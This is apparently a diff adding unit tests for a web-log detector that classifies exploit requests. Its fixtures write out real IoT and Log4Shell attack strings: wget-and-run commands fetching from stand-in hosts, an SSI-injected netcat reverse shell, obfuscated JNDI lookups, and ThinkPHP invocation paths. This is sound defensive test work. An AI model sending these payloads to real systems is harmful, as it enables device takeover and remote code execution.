@@ -102,3 +102,132 @@ test('the tftp command that names its sender is its own payload', () => {
   })
   equal(match({ ...entry, source: '192.0.2.8' as Source }, ready)[0]?.ownPayload, false)
 })
+
+const today = { at: '2022-01-23T22:02:09Z' as Instant, version: '1.1' }
+const jaws = '/shell?cd+/tmp;wget+http://198.51.100.9/jaws;sh+/tmp/jaws'
+
+test('a payload tells the marks of a family apart', () => {
+  deepEqual(marks({ ...today, target: jaws }), ['jaws-run'])
+  deepEqual(marks({ ...today, target: '/shell?cd+/tmp;wget+http://198.51.100.9/x' }), [
+    'jaws-fetch',
+  ])
+  deepEqual(marks({ ...today, target: '/shell?cd+/tmp;id' }), ['jaws-path'])
+})
+
+test('a line cut inside the command may have gone on to run it', () => {
+  deepEqual(
+    marks({
+      ...today,
+      target: '/shell?cd+/tmp;wget+http://198.51.100.9/x;s',
+      cut: true,
+    }).toSorted(),
+    ['jaws-fetch', 'jaws-run~cut'],
+  )
+})
+
+test('a payload in another field than the mark is no part of it', () => {
+  const entry = {
+    source: '192.0.2.7' as Source,
+    ...today,
+    clock: 'known',
+    escapes: 'slashes',
+    method: 'POST',
+    target: '/HNAP1/',
+    referer: 'wget http://192.0.2.7/x;sh x',
+    userAgent: 'wget http://192.0.2.7/x;sh x',
+  } as const
+  const [mark] = match(entry, ready)
+  deepEqual([mark?.id, mark?.payloadHosts, mark?.ownPayload], ['hnap-post', [], false])
+})
+
+test('the hosts of a payload are told, but not those that mean nobody', () => {
+  const hostsOf = (target: string) =>
+    match(
+      { source: '192.0.2.7' as Source, ...today, clock: 'known', escapes: 'slashes', target },
+      ready,
+    )[0]?.payloadHosts
+  deepEqual(hostsOf(jaws), ['198.51.100.9'])
+  deepEqual(hostsOf(jaws.replace('198.51.100.9', '192.168.1.1:8088')), [])
+  deepEqual(hostsOf(jaws.replace('198.51.100.9', '0.0.0.0')), [])
+  deepEqual(hostsOf('/?x=${jndi:ldap://198.51.100.9/a}'), ['198.51.100.9'])
+  const many = Array.from({ length: 40 }, (_, index) => `wget+http://198.51.100.${index}/x`)
+  deepEqual(hostsOf(`/shell?${many.join(';')}`)?.length, 16)
+})
+
+test("a private source's own payload is its own, told or not", () => {
+  const [mark] = match(
+    {
+      source: '192.168.1.1' as Source,
+      ...today,
+      clock: 'known',
+      escapes: 'slashes',
+      target: jaws.replace('198.51.100.9', '192.168.1.1:8088'),
+    },
+    ready,
+  )
+  deepEqual([mark?.payloadHosts, mark?.ownPayload], [[], true])
+})
+
+test('calling oneself back is no payload', () => {
+  const target =
+    '/incl/image_test.shtml?camnbr=%3c%21--%23exec%20cmd=%22nc%20192.0.2.7%2031337|/bin/sh%22%20--%3e'
+  const entry = {
+    source: '192.0.2.7' as Source,
+    ...today,
+    clock: 'known',
+    escapes: 'none',
+    target,
+  } as const
+  const [mark] = match(entry, ready)
+  deepEqual(
+    [mark?.id, mark?.payloadHosts, mark?.ownPayload],
+    ['iot-ssi-exec', ['192.0.2.7'], false],
+  )
+})
+
+test('the agent of a scanner marks a line that has another mark, and no other', () => {
+  const userAgent = 'Mozilla/5.0 zgrab/0.x'
+  deepEqual(marks({ ...today, target: '/HNAP1', userAgent }), ['hnap-get', 'scanner-agent'])
+  deepEqual(marks({ ...today, target: '/', userAgent }), [])
+  deepEqual(marks({ ...today, target: '/HNAP1', userAgent: 'curl/8.1' }), ['hnap-get'])
+})
+
+test('the mark of a scanner is of the same request as the other', () => {
+  const entry = {
+    source: '192.0.2.7' as Source,
+    ...today,
+    clock: 'known',
+    escapes: 'slashes',
+    method: 'GET',
+    target: '/?x=${jndi:ldap://198.51.100.9/a}',
+    userAgent: 'Nuclei - Open-source project ${jndi:ldap://198.51.100.9/a}',
+  } as const
+  deepEqual(
+    match(entry, ready).map(({ id, field }) => [id, field]),
+    [
+      ['log4shell-query', 'target'],
+      ['log4shell-agent', 'userAgent'],
+      ['scanner-agent', 'target'],
+      ['scanner-agent', 'userAgent'],
+    ],
+  )
+})
+
+const hidden: readonly (readonly [target: string, mark: string])[] = [
+  ['/?x=$%7bjndi:ldap://198.51.100.9/a%7d', 'log4shell-query'],
+  ['/?x=%24%7b::-j%7dndi', ''],
+  ['/?x=%24%7b%24%7b::-j%7dndi:rmi://198.51.100.9/a%7d', 'log4shell-query'],
+  ['/?x=${${lower:j}${upper:n}${lower:d}i:ldap://198.51.100.9/a}', 'log4shell-query'],
+  ['/%2524%257bjndi:dns://198.51.100.9/a%257d', 'log4shell-path'],
+  [String.raw`/index.php?s=/index/\\think\\app/invokefunction&vars[0]=md5`, 'thinkphp-invoke'],
+  [String.raw`/index.php?s=/index/\x5Cthink\x5Capp/invokefunction&vars[0]=md5`, 'thinkphp-invoke'],
+  ['/index.php?s=/index/%255Cthink%255Capp/invokefunction&vars[0]=md5', 'thinkphp-invoke'],
+  ['/language/Swedish$%7BIFS%7D&&wget$%7BIFS%7Dhttp://198.51.100.9/x|sh', 'cctv-dvr-run'],
+  ['/bin/zhttpd/$IFS/usr/bin/wget${IFS}http://198.51.100.9/x;${IFS}./x', 'zyxel-zhttpd-run'],
+  ['http://www.example.org/GponForm/diag_Form?images/', 'gpon-path'],
+]
+
+for (const [target, mark] of hidden) {
+  test(`${target} is ${mark || 'nothing'}`, () =>
+    deepEqual(marks({ ...today, target }), mark === '' ? [] : [mark]))
+}
